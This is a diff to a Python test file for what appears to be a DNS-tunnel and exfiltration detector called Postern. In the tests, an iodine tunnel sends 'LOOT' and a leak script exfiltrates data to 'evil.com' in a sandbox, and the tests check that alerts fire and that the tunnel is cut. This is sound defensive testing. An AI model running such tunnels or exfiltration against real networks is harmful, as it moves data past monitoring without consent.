@@ -1,4 +1,5 @@
 # Tunnels: a real one through Postern is flagged, told, and cut; what runs beside it is not disturbed.
+import hashlib
 import json
 import os
 import threading
@@ -6,7 +7,7 @@ import threading
 from cases import case, equal, holds
 from dns_client import ask_udp
 from iodine_client import DropBox, Iodine
-from little_internet import TUNNEL_ZONE, UPSTREAM, LittleInternet
+from little_internet import UPSTREAM, LittleInternet
 from postern_process import Daemon, run
 from private_host import Namespace, temp_folder, wait_until, write
 from recording_upstream import RecordingUpstream
@@ -75,7 +76,12 @@ def check_tunnel_is_cut(*iodine_options):
     box = DropBox()
     beside = [Benign(suspect.path, BENIGN[:-1]), Benign(other.path, BENIGN)]
     tunnel = Iodine(suspect, "127.0.0.1", *iodine_options)
-    wait_until(lambda: daemon.alerts("kind = 'tunnel'"), "the tunnel alert", seconds=60)
+    flagged = lambda: daemon.alerts("kind = 'tunnel'")
+    wait_until(lambda: flagged() or tunnel.up(), f"the tunnel alert, or the tunnel: {tunnel.said()}", seconds=60)
+    if tunnel.up() and not flagged():
+        print("the tunnel came up before it was flagged")
+        tunnel.send(LOOT)  # a handful of names was all it took; what carries data must be seen
+    wait_until(flagged, "the tunnel alert", seconds=60)
     if tunnel.settle():
         tunnel.send(LOOT)
     tunnel.stop()
@@ -88,7 +94,8 @@ def check_tunnel_is_cut(*iodine_options):
           ("suspect", "night-job", "tunnel.example", "block-zone"), alert)
     holds(0 < alert["score"] <= 1, alert)
     evidence = json.loads(alert["evidence"])
-    holds(evidence["why"] and all(part["weight"] > 0 for part in evidence["why"]), evidence)
+    weights = [part["weight"] for part in evidence["why"]]
+    holds(weights == sorted(weights, reverse=True) and abs(sum(weights) - alert["score"]) < 0.01, evidence)
     tunnel_alerts = wait_until(lambda: [a for a in told() if a["kind"] == "tunnel"],
                                "the alert program is told")
     equal((tunnel_alerts[0]["session"], tunnel_alerts[0]["user"], tunnel_alerts[0]["zone"],
@@ -191,7 +198,6 @@ def _():
                              "the alert program is told")[0]
     equal((object_told["user"], object_told["zone"], object_told["labels"]),
           ("eve", "evil.com", {"ticket": "7"}))
-    import hashlib
     equal(object_told["code_sha256"], hashlib.sha256(_LEAK.encode()).hexdigest(), "the script's hash")
     rows = done.rows("registered_domain = 'evil.com'")
     equal(len(rows), -(-EXFILTRATED // 24), "a row for each attempt")
